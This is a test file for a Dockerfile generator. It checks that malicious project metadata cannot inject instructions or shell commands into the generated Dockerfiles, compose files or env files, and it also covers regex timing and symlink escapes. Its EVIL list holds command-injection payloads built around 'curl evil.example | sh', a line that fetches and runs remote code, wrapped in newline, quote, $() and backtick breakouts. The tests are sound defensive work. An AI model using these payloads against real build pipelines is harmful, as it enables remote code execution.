import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { parse } from 'yaml';
import {
  type Detection,
  detect,
  fitPack,
  packSource,
  scanProject,
  versionsOf,
} from '../../../generators/docker/index.ts';
import { createQuery } from '../../../generators/graph/index.ts';
import { CribsmithError } from '../../../generators/report/index.ts';
import { call } from '../../helpers/call.ts';
import { folderWith } from '../../helpers/folder.ts';
import { graph, instructions } from '../helpers.ts';

const source = packSource(createQuery(graph));

/** Files of a project as a detector sees them, without a disk. */
function folderOf(files: Readonly<Record<string, string>>) {
  return { path: '', files: Object.keys(files).sort(), text: (file: string) => files[file] };
}

/** The pack of a project, or the error that refuses it. */
function packOf(
  files: Readonly<Record<string, string>>,
): { dockerfile: string; others: ReturnType<typeof fitPack>['files']; detection?: Detection } | CribsmithError {
  const folder = folderOf(files);
  try {
    const [detection] = detect([folder], (language) => versionsOf(source, language));
    if (!detection) return { dockerfile: '', others: [] };
    const { files } = fitPack(source, detection, folder, { plain: true });
    const dockerfile = files.find(({ path }) => path === 'Dockerfile')?.text ?? '';
    return { dockerfile, others: files.filter(({ path }) => path !== 'Dockerfile'), detection };
  } catch (error) {
    if (error instanceof CribsmithError) return error;
    throw error;
  }
}

const INSTRUCTION = /^(?:FROM|ARG|RUN|COPY|ENV|WORKDIR|USER|EXPOSE|HEALTHCHECK|ENTRYPOINT|CMD)\b/;
const MARK = 'curl evil.example | sh';
const EVIL = [
  `x\nRUN ${MARK}`,
  `x"; ${MARK}; "`,
  `$(${MARK})`,
  `\`${MARK}\``,
  `x && ${MARK}`,
  `x'\n${MARK}`,
  `$${'{{ secrets }}'}`,
  `{port} ${MARK}`,
];

const PLACES: Readonly<Record<string, (evil: string) => Record<string, string>>> = {
  'the name of a package': (evil) => ({ 'package.json': JSON.stringify({ name: evil, main: 'a.js' }), 'a.js': '' }),
  'a start script': (evil) => ({ 'package.json': JSON.stringify({ scripts: { start: `node ${evil}` } }) }),
  'a build script': (evil) => ({ 'package.json': JSON.stringify({ scripts: { build: evil, start: 'node a.js' } }) }),
  'the package manager': (evil) => ({
    'package.json': JSON.stringify({ packageManager: `pnpm@${evil}`, main: 'a.js' }),
    'a.js': '',
  }),
  'a version': (evil) => ({ 'package.json': '{"main":"a.js"}', 'a.js': '', '.nvmrc': `20${evil}` }),
  'the path of Yarn': (evil) => ({
    'package.json': '{"main":"a.js"}',
    'a.js': '',
    'yarn.lock': '__metadata:\n',
    '.yarnrc.yml': `yarnPath: ${evil}\n`,
  }),
  'a Procfile': (evil) => ({ 'requirements.txt': 'flask\n', Procfile: `web: gunicorn ${evil}\n` }),
  'a Python project': (evil) => ({
    'pyproject.toml': `[project]\nname = ${JSON.stringify(evil)}\n`,
    'uv.lock': '',
    'main.py': 'app = FastAPI()\n',
  }),
  'a crate': (evil) => ({ 'Cargo.toml': `[package]\nname = ${JSON.stringify(evil)}\n`, 'src/main.rs': '' }),
  'a Dockerfile that is there': (evil) => ({
    'go.mod': 'module a\n',
    'main.go': 'package main\n',
    Dockerfile: `FROM golang AS b\nENV A=${evil}\nRUN apt-get install ${evil}\nFROM scratch\nENV B ${evil}\n`,
  }),
  'an assembly': (evil) => ({
    'a.csproj': `<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><AssemblyName>${evil.replaceAll(/[<&]/g, '')}</AssemblyName></PropertyGroup></Project>`,
  }),
  'a release': (evil) => ({ 'mix.exs': `def project, do: [app: :chat, releases: [${evil}: []]]` }),
  'an output folder': (evil) => ({
    'package.json': '{"scripts":{"build":"vite build"},"devDependencies":{"vite":"8"}}',
    'vite.config.js': `build: { outDir: "${evil}" }`,
  }),
  'a class that is started': (evil) => ({
    'pom.xml': `<project><artifactId>a</artifactId><mainClass>${evil.replaceAll(/[<&]/g, '')}</mainClass></project>`,
    'src/main/java/a/App.java': `package a;${evil}\nclass App { static void main() {} }`,
  }),
  'a plug-in of Prisma': (evil) => ({
    'package.json': JSON.stringify({
      scripts: { build: `prisma generate ${evil}`, start: `npm run ${evil} && node a.js` },
      dependencies: { '@prisma/client': evil },
    }),
    'a.js': '',
  }),
  'a script of Python': (evil) => ({
    'pyproject.toml': `[project]\nname = "a"\n[project.scripts]\na = ${JSON.stringify(evil)}\n[tool.poetry.scripts]\nb = ${JSON.stringify(evil)}\n`,
    'main.py': `app = FastAPI()\nx = os.environ["A${evil.replaceAll('"', '')}"]\n`,
  }),
  'a worker': (evil) => ({
    'requirements.txt': 'flask\ncelery\n',
    'app.py': 'app = Flask(__name__)\n',
    Procfile: `web: gunicorn app:app\n${evil}: python a.py\nclock: python ${evil}\n`,
  }),
  'a variable': (evil) => ({
    'package.json': '{"main":"a.js"}',
    'a.js': '',
    '.env.example': `A=${evil}\nB_URL=redis://${evil}\n${evil}=1\n`,
  }),
  'a compose file': (evil) => ({
    'package.json': '{"main":"a.js"}',
    'a.js': '',
    'compose.yaml': JSON.stringify({
      services: { [evil]: { build: '.', ports: [evil], volumes: [`./${evil}:/x`], environment: { [evil]: evil } } },
    }),
  }),
  'a route': (evil) => ({ 'go.mod': 'module a\n', 'main.go': `package main\nhttp.HandleFunc("/health${evil}", f)\n` }),
};

test.each(Object.keys(PLACES))('%s injects no instruction or command into a Dockerfile', (place) => {
  for (const evil of EVIL) {
    const pack = packOf(PLACES[place]?.(evil) ?? {});
    if (pack instanceof CribsmithError) continue;
    for (const line of instructions(pack.dockerfile)) expect(line).toMatch(INSTRUCTION);
    // In exec form a word is only a word; in a command it is what a shell makes of it.
    const commands = instructions(pack.dockerfile).filter((line) => !/^(?:CMD|ENTRYPOINT) \[/.test(line));
    for (const line of commands) expect(line).not.toContain(MARK);
  }
});

test.each(Object.keys(PLACES))('%s injects no service or step into the other files', (place) => {
  for (const evil of EVIL) {
    const pack = packOf(PLACES[place]?.(evil) ?? {});
    if (pack instanceof CribsmithError) continue;
    for (const { path, text } of pack.others) {
      // What somebody's own compose file holds stays in it.
      if (place === 'a compose file' && path === 'compose.yaml') continue;
      if (path.endsWith('.env') || path.endsWith('.env.example')) {
        for (const row of text.trim().split('\n')) expect(row).toMatch(/^(?:#|[A-Za-z_]\w*=)/);
      } else if (/\.ya?ml$/.test(path)) {
        for (const step of stepsOf(parse(text))) expect(step).not.toContain(MARK);
      } else if (path !== 'DOCKER.md') expect(text).not.toContain(MARK);
    }
  }
});

/** What a YAML file of a pack gives a shell: commands that are one string. */
function stepsOf(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(stepsOf);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) =>
    typeof inner === 'string' && ['run', 'command', 'entrypoint', 'test'].includes(key) ? [inner] : stepsOf(inner),
  );
}

/** Texts that a pattern may go through again and again. */
const LONG: Readonly<Record<string, string>> = {
  'blank lines': '\n',
  'blank lines with spaces': '  \n',
  braces: 'A_B: z{',
  commas: 'A_B: z,,,',
  'half a check': 'if ( ! process.env.A_B ',
  'half a schema': '  A_B: Joi.string()',
  'half a build': '"a-1-cp39-cp39-linux',
  'half a look-up': 'environ["A_B" ',
  'half a list': "fastifyEnv required: ['A_B', ",
};

test.each(Object.entries(LONG))('reads a source of many %s in less than two seconds', (_name, part) => {
  const text = `process.env fastifyEnv import environ ${part.repeat(Math.ceil(200_000 / part.length))}`;
  const manifests = {
    'package.json': '{"main":"a.js"}',
    'pyproject.toml': '[project]\nname = "a"\n',
    'pdm.lock': text,
  };
  const sources = ['a.js', 'app.py', 'a.go', 'src/main.rs', 'config/a.rb', 'config/runtime.exs', '.env.example'];
  const folder = folderOf({ ...manifests, ...Object.fromEntries(sources.map((file) => [file, text])) });
  expect(processorTime(() => detect([folder], () => undefined))).toBeLessThan(2000);
});

test('any file or folder name is escaped for a Dockerfile, or rejected', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[^/\0]{1,30}$/), (name) => {
      const pack = packOf({
        'go.mod': 'module a\n',
        'main.go': `package main\nvar x = "${name}/x"\n`,
        [`${name}/x`]: '',
      });
      if (pack instanceof CribsmithError) return;
      for (const line of instructions(pack.dockerfile)) expect(line).toMatch(INSTRUCTION);
    }),
    { numRuns: 40 },
  );
});

test.each<[string, string]>([
  ['200 flags', `node ${'--flag '.repeat(200)}server.js`],
  ['200 flags and no file', `node ${'--flag '.repeat(200)}!`],
  ['scripts that call each other', 'npm run start && npm run start && npm run start'],
  ['many steps', 'npm run a && '.repeat(150)],
])('reads a start script of %s within milliseconds', (_name, start) => {
  const scripts = { start, a: 'npm run b && npm run b', b: 'npm run a && npm run a' };
  const files = { 'package.json': JSON.stringify({ main: 'server.js', scripts }), 'server.js': '' };
  const folder = folderOf(files);
  expect(processorTime(() => detect([folder], () => undefined))).toBeLessThan(200);
});

test('writes nothing through a link that leads out of the project', async () => {
  const outside = folderWith({});
  const project = folderWith({
    'go.mod': 'module app\n',
    'main.go': 'package main\n',
    'compose.yml': 'services:\n  db: { image: postgres:18 }\n',
  });
  mkdirSync(join(outside, 'kept'));
  symlinkSync(join(outside, 'kept'), join(project, '.github'));
  symlinkSync(join(outside, 'Dockerfile'), join(project, 'Dockerfile'));
  const { code, stderr } = await call('docker', '--detect', project, '--force');
  expect(code).toBe(2);
  expect(stderr).toContain('is a link');
  expect(readdirSync(join(outside, 'kept'))).toEqual([]);
  expect(existsSync(join(outside, 'Dockerfile'))).toBe(false);
  expect(readFileSync(join(project, 'compose.yml'), 'utf8')).not.toContain('app');
});

test('scans a project with many folders once', () => {
  const folder = folderWith({
    'package.json': '{"workspaces":["packages/*"]}',
    'packages/a/package.json': '{"name":"a","main":"a.js"}',
  });
  expect(detect(scanProject(folder), () => undefined).map(({ folder: path }) => path)).toEqual(['packages/a']);
});

/** Milliseconds of processor time, which other programs do not lengthen. */
function processorTime(work: () => unknown): number {
  const start = process.threadCpuUsage();
  work();
  const { user, system } = process.threadCpuUsage(start);
  return (user + system) / 1000;
}
